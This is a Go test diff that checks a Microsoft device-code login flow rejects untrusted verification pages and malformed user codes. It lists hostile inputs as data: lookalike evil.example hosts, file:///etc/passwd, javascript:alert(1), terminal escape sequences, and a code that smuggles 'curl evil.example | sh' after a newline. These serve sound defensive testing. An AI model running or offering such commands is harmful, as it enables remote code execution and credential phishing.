@@ -83,6 +83,49 @@ func TestDeviceCode(t *testing.T) {
 	}
 }
 
+// Whoever answers names a page and a code: a browser is sent nowhere but to
+// Microsoft, and nothing gets into a clipboard that is no code.
+func TestDeviceCodePages(t *testing.T) {
+	for _, c := range []struct {
+		page, code string
+		fine       bool
+	}{
+		{"https://microsoft.com/devicelogin", "ABCD2345E", true},
+		{"https://MICROSOFT.com/deviceloginus", "ABCD2345E", true},
+		{"https://login.microsoft.com/device", "ABCD-EFGH", true},
+		{"https://login.microsoftonline.com/common/oauth2/deviceauth", "ABCD2345E", true},
+		{"http://127.0.0.1:8080/common/oauth2/deviceauth", "ABCD2345E", true},
+		{"http://microsoft.com/devicelogin", "ABCD2345E", false},
+		{"https://microsoft.com.evil.example/devicelogin", "ABCD2345E", false},
+		{"https://evilmicrosoft.com/devicelogin", "ABCD2345E", false},
+		{"https://microsoft.com@evil.example/devicelogin", "ABCD2345E", false},
+		{"https://microsoft.com:8443/devicelogin", "ABCD2345E", false},
+		{"https://login.microsoftonline.us/device", "ABCD2345E", false},
+		{"file:///etc/passwd", "ABCD2345E", false},
+		{"javascript:alert(1)", "ABCD2345E", false},
+		{"vscode://extension", "ABCD2345E", false},
+		{"--version", "ABCD2345E", false},
+		{"/bin/true", "ABCD2345E", false},
+		{"\x1b[31mhttps://microsoft.com/devicelogin", "ABCD2345E", false},
+		{"", "ABCD2345E", false},
+		{"https://microsoft.com/devicelogin", "AB\x1b[2J\u202eCD", false},
+		{"https://microsoft.com/devicelogin", "x\ncurl evil.example | sh\n", false},
+		{"https://microsoft.com/devicelogin", "", false},
+		{"https://microsoft.com/devicelogin", strings.Repeat("A", 33), false},
+	} {
+		s := deviceSTS(deviceTokens(3600))
+		s.device = func(url.Values) (int, any) {
+			return 0, map[string]any{"device_code": "canary-device", "user_code": c.code, "expires_in": 900, "interval": 1,
+				"verification_uri": c.page, "message": "go there"}
+		}
+		shown := 0
+		_, _, err := NewDeviceCode(context.Background(), serve(t, s), adminRequest(), func(Prompt) { shown++ })
+		if c.fine != (err == nil) || c.fine != (shown == 1) || !c.fine && !errors.Is(err, ErrTokenAnswer) {
+			t.Errorf("%s, %q: shown %d times, %v", c.page, c.code, shown, err)
+		}
+	}
+}
+
 func TestDeviceCodeEnds(t *testing.T) {
 	cases := []struct {
 		name string
